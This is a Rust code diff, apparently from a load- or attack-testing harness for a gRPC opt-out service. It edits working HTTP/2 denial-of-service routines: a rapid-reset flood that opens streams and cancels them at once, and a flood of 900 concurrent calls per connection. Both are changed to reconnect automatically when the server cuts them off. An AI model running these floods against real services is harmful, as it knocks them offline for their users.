@@ -90,7 +90,7 @@ pub async fn unread(target: &Target, time: Duration) -> Result {
     Ok(())
 }
 
-/// Opt-outs of one person, each given up as soon as it is sent, six connections with 900 at a time.
+/// Opt-outs of one person, each given up as soon as it is sent, six connections with 150 at a time.
 pub async fn resets(target: &Target, time: Duration) -> Result {
     let request = v1::RecordOptOutRequest {
         recipient: Some(v1::record_opt_out_request::Recipient::PhoneNumber(
@@ -100,16 +100,11 @@ pub async fn resets(target: &Target, time: Duration) -> Result {
     };
     let message = &message(&request.encode_to_vec());
     let send = |_| async move {
-        let wire = Wire::try_connect(target.server.address(), h2::client::Builder::new()).await?;
+        // The server ends a connection that gives up too many at once.
         loop {
-            for _ in 0..900 {
-                let mut call = wire.try_open("OptInService/RecordOptOut", &[]).await?;
-                drop(call.request.send_data(message.clone(), true));
-                // What is dropped before it was sent is not sent.
-                tokio::task::yield_now().await;
-                call.request.send_reset(h2::Reason::CANCEL);
-            }
-            sleep(Duration::from_millis(1)).await;
+            let settings = h2::client::Builder::new();
+            let wire = Wire::try_connect(target.server.address(), settings).await?;
+            while try_join_all((0..150).map(|_| give_up(&wire, message))).await.is_ok() {}
         }
     };
     let attack = try_join_all((0..6).map(send));
@@ -117,6 +112,16 @@ pub async fn resets(target: &Target, time: Duration) -> Result {
         Ok(ended) => ended.map(|_: Vec<()>| ()),
         Err(_) => Ok(()),
     }
+}
+
+/// Sends an opt-out and gives it up before it is answered.
+async fn give_up(wire: &Wire, message: &Bytes) -> std::result::Result<(), h2::Error> {
+    let mut call = wire.try_open("OptInService/RecordOptOut", &[]).await?;
+    call.request.send_data(message.clone(), true)?;
+    // What is given up before it was sent is not sent.
+    sleep(Duration::from_millis(1)).await;
+    call.request.send_reset(h2::Reason::CANCEL);
+    Ok(())
 }
 
 /// Six connections with 900 calls at a time each.
@@ -129,28 +134,29 @@ pub(super) async fn flood(
 ) -> Result {
     let message = message.as_ref();
     let send = |method| async move {
-        let mut settings = h2::client::Builder::new();
-        // With a small window, h2 ends the connection itself: that many small answers seem an attack.
-        settings.initial_connection_window_size(LARGE_WINDOW);
-        let wire = Wire::try_connect(target.server.address(), settings).await?;
-        let open = || async {
-            let mut call = wire.try_open(method, headers).await?;
-            if let Some(message) = message {
-                drop(call.request.send_data(message.clone(), true));
+        // The server ends a connection with too many calls that it refuses before they have arrived.
+        loop {
+            let mut settings = h2::client::Builder::new();
+            // With a small window, h2 ends the connection itself: that many small answers seem an attack.
+            settings.initial_connection_window_size(LARGE_WINDOW);
+            let wire = Wire::try_connect(target.server.address(), settings).await?;
+            let open = || async {
+                let mut call = wire.try_open(method, headers).await?;
+                if let Some(message) = message {
+                    drop(call.request.send_data(message.clone(), true));
+                }
+                call.try_response().await
+            };
+            let mut calls: FuturesUnordered<_> = (0..900).map(|_| open()).collect();
+            while let Some(Ok(_)) = calls.next().await {
+                calls.push(open());
             }
-            call.try_response().await
-        };
-        let mut calls: FuturesUnordered<_> = (0..900).map(|_| open()).collect();
-        while let Some(answer) = calls.next().await {
-            answer?;
-            calls.push(open());
         }
-        Result::Ok(())
     };
     let attack = try_join_all(methods.iter().copied().cycle().take(6).map(send));
     // It goes on until it is stopped.
     match timeout(time, attack).await {
-        Ok(ended) => ended.map(drop),
+        Ok(ended) => ended.map(|_: Vec<()>| ()),
         Err(_) => Ok(()),
     }
 }
